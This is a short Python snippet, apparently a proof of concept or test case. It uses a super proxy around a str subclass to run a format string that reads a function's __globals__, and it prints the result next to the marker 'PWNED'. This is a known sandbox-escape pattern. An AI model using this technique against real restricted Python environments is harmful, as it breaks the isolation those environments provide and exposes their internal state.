class Sup(super):
    pass
class S(str):
    pass
def f():
    pass
print("PWNED", Sup(S, S("{0.__globals__}")).format(f))
